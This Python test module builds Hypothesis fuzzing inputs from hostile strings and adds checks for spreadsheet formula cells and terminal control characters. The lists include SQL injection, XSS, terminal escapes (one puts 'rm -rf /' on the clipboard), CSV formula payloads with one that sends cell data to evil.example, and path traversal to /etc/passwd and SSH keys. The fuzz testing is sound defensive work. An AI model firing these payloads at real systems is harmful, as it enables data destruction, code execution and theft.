"""Texts that mean something to whoever takes them for more than data, and who must not."""

import re
import unicodedata

from hypothesis import strategies as st

SQL = ("'; DROP TABLE books; --", '" OR ""="', "x'); DELETE FROM ledger; --", "%s ? :a $1 @b {0}")
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1bP+q544e\x1b\\", "\x9b31m\x9d0;owned\x9c", "\r overwritten",
    "\x08\x08\x08", "\x00", "\x7f", "\x85next", "\u2028line", "\u202egpj.exe\u202c",
    "\u2066isolated\u2069", "[bold red]Rich[/] [link=https://evil.example]x[/link]", ":smile:",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "{{7*7}}", "${7*7}",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", 'x",=1+1', "a;\t =1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")', "\uff1d1+1", "-5", "-5e3", "+49 30", "--", "=",
)  # fmt: skip
PATHS = ("../../../../etc/passwd", "/etc/passwd", "C:\\Windows\\x", "a\x00.png", "-rf", "~/.ssh/id")
MEANINGFUL = SQL + TERMINAL + HTML + FORMULAS + PATHS

texts = st.lists(
    st.sampled_from(MEANINGFUL) | st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    max_size=4,
).map("".join)

SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
_STYLE = re.compile(r"\x1b\[[0-9;]*m")
_TURNING = frozenset(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))


def is_run(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula (OWASP, "CSV Injection")."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip("".join(map(chr, range(33)))).startswith(SIGNS)
    return False


def obeyed(shown: str) -> list[str]:
    """What of it a terminal obeys instead of showing, but for colours and the ends of lines."""
    rest = _STYLE.sub("", shown).replace("\r\n", "\n")
    return [
        sign
        for sign in rest
        if (unicodedata.category(sign) in {"Cc", "Zl", "Zp"} and sign not in "\t\n")
        or sign in _TURNING
    ]
